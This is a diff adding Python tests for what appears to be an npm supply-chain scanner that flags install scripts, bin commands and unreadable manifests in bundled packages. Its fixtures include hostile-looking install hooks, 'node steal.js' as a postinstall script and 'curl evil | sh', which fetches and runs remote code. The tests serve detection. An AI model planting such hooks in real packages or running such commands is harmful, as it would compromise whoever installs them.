@@ -268,6 +268,101 @@ def test_binding_gyp_with_gypfile_false_runs_nothing():
     assert risks(dossier, "install-script-added") == []
 
 
+# Bundled packages: npm installs them from the tarball and runs their scripts
+
+
+def bundled(name: str = "dep", **fields) -> str:
+    return json.dumps({"name": name, "version": "1.0.0", **fields})
+
+
+def test_install_script_of_a_bundled_package_is_high_risk():
+    staged = release(
+        {"node_modules/dep/package.json": bundled(scripts={"postinstall": "node steal.js"})},
+        bundleDependencies=["dep"],
+    )
+
+    dossier = build(staged, release())
+
+    risk = only_risk(dossier, "install-script-added")
+    assert risk["severity"] == "high"
+    assert risk["message"] == (
+        "Adds a postinstall script in the bundled package node_modules/dep, which npm runs "
+        "on install."
+    )
+    assert risk["detail"] == {
+        "script": "postinstall",
+        "command": "node steal.js",
+        "package": "node_modules/dep",
+    }
+    assert dossier["summary"]["headline"].startswith("1 high-risk signal: install script added")
+
+
+def test_bundled_packages_count_at_any_depth_and_binding_gyp_implies_node_gyp():
+    deep = "node_modules/dep/node_modules/@scope/native"
+    staged = release(
+        {
+            "node_modules/dep/package.json": bundled(),
+            f"{deep}/package.json": bundled("@scope/native"),
+            f"{deep}/binding.gyp": "{}",
+        }
+    )
+
+    dossier = build(staged, release())
+
+    assert only_risk(dossier, "install-script-added")["detail"] == {
+        "script": "install",
+        "command": "node-gyp rebuild",
+        "package": deep,
+    }
+    assert only_risk(dossier, "bundled-packages")["detail"] == {"paths": ["node_modules/dep", deep]}
+
+
+def test_bundled_script_is_compared_with_the_previous_release():
+    def with_script(command):
+        return release({"node_modules/dep/package.json": bundled(scripts={"install": command})})
+
+    same = build(with_script("node build.js"), with_script("node build.js"))
+    changed = build(with_script("curl evil | sh"), with_script("node build.js"))
+
+    assert risks(same, "install-script-added") == risks(same, "install-script-changed") == []
+    assert risks(same, "bundled-packages") == []  # already bundled before
+    risk = only_risk(changed, "install-script-changed")
+    assert (risk["severity"], risk["detail"]["previous"]) == ("high", "node build.js")
+    assert "in the bundled package node_modules/dep" in risk["message"]
+
+
+def test_commands_of_bundled_packages_are_flagged():
+    staged = release({"node_modules/dep/package.json": bundled("dep", bin="cli.js")})
+
+    risk = only_risk(build(staged, release()), "bin-added")
+
+    assert risk["message"] == (
+        "Adds the command dep in the bundled package node_modules/dep, which runs cli.js."
+    )
+
+
+def test_package_json_outside_node_modules_says_when_npm_would_run_it():
+    staged = release({"fixtures/app/package.json": bundled(scripts={"preinstall": "x"})})
+
+    dossier = build(staged, release())
+
+    assert only_risk(dossier, "install-script-added")["message"] == (
+        "Adds a preinstall script in fixtures/app/package.json, which npm runs if that folder "
+        "is installed as a package."
+    )
+    assert risks(dossier, "bundled-packages") == []
+
+
+def test_unreadable_bundled_package_json_is_high_risk():
+    staged = release({"node_modules/dep/package.json": "[" * 2000})
+
+    risk = only_risk(build(staged, release()), "bundled-manifest-unreadable")
+
+    assert risk["severity"] == "high"
+    assert risk["message"].startswith("node_modules/dep/package.json cannot be read (it nests")
+    assert risk["message"].endswith("so what it runs on install could not be checked.")
+
+
 # Dependencies
 
 
